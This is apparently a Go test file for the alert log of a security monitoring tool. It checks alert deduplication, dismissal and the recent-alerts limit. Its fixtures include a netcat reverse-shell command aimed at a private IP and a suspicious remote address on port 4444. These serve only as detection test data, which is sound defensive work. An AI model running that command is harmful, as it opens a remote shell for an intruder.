package alert

import (
	"errors"
	"path/filepath"
	"testing"

	"github.com/agentsentry/agentsentry/internal/threatdb"
)

func testLog(t *testing.T) (*Log, string, string) {
	t.Helper()
	dir := t.TempDir()
	path := filepath.Join(dir, "alerts.json")
	dismissed := filepath.Join(dir, "dismissed-alerts.json")
	l, err := OpenLog(path, dismissed)
	if err != nil {
		t.Fatalf("OpenLog: %v", err)
	}
	return l, path, dismissed
}

func TestAppend_DedupsIdenticalAlerts(t *testing.T) {
	l, _, _ := testLog(t)

	a := New(threatdb.SeverityHigh, "threat_match", "Netcat Reverse Shell", "nc with -e flag",
		Details{Command: "nc -e /bin/sh 10.0.0.5 4444"})
	added, err := l.Append(a)
	if err != nil || !added {
		t.Fatalf("first Append = (%v, %v), want (true, nil)", added, err)
	}

	// Same finding, fresh id and timestamp.
	b := New(threatdb.SeverityHigh, "threat_match", "Netcat Reverse Shell", "nc with -e flag",
		Details{Command: "nc -e /bin/sh 10.0.0.5 4444"})
	added, err = l.Append(b)
	if err != nil {
		t.Fatalf("second Append: %v", err)
	}
	if added {
		t.Error("identical alert should be deduplicated")
	}
	if got := len(l.Recent(0)); got != 1 {
		t.Errorf("len(Recent) = %d, want 1", got)
	}

	// Different command is a different finding.
	c := New(threatdb.SeverityHigh, "threat_match", "Netcat Reverse Shell", "nc with -e flag",
		Details{Command: "nc -e /bin/sh 10.0.0.6 4444"})
	if added, _ := l.Append(c); !added {
		t.Error("distinct alert should not be deduplicated")
	}
}

func TestDedup_SurvivesReopen(t *testing.T) {
	l, path, dismissed := testLog(t)
	a := New(threatdb.SeverityMedium, "network", "Suspicious Port 4444", "metasploit default",
		Details{Remote: "203.0.113.9:4444"})
	if _, err := l.Append(a); err != nil {
		t.Fatalf("Append: %v", err)
	}

	l2, err := OpenLog(path, dismissed)
	if err != nil {
		t.Fatalf("reopen: %v", err)
	}
	repeat := New(threatdb.SeverityMedium, "network", "Suspicious Port 4444", "metasploit default",
		Details{Remote: "203.0.113.9:4444"})
	if added, _ := l2.Append(repeat); added {
		t.Error("persisted alert should still suppress duplicates after reopen")
	}
}

func TestDismiss_MovesToDismissedLog(t *testing.T) {
	l, _, _ := testLog(t)
	a := New(threatdb.SeverityLow, "behavioral", "Unusual path: /opt/x", "", Details{Path: "/opt/x/f"})
	if _, err := l.Append(a); err != nil {
		t.Fatalf("Append: %v", err)
	}

	dismissed, err := l.Dismiss(a.ID)
	if err != nil {
		t.Fatalf("Dismiss: %v", err)
	}
	if dismissed.DismissedAt == nil {
		t.Error("dismissed alert should carry a dismissal time")
	}
	if got := len(l.Recent(0)); got != 0 {
		t.Errorf("len(Recent) after dismiss = %d, want 0", got)
	}

	if _, err := l.Dismiss("no-such-id"); !errors.Is(err, ErrUnknownAlert) {
		t.Errorf("Dismiss(unknown) = %v, want ErrUnknownAlert", err)
	}
}

func TestRecent_Limit(t *testing.T) {
	l, _, _ := testLog(t)
	for i := 0; i < 5; i++ {
		a := New(threatdb.SeverityLow, "test", "t", "", Details{Command: string(rune('a' + i))})
		if _, err := l.Append(a); err != nil {
			t.Fatalf("Append: %v", err)
		}
	}
	if got := len(l.Recent(3)); got != 3 {
		t.Errorf("len(Recent(3)) = %d, want 3", got)
	}
	if got := l.Recent(3)[2].Details.Command; got != "e" {
		t.Errorf("newest alert should be last, got %q", got)
	}
}
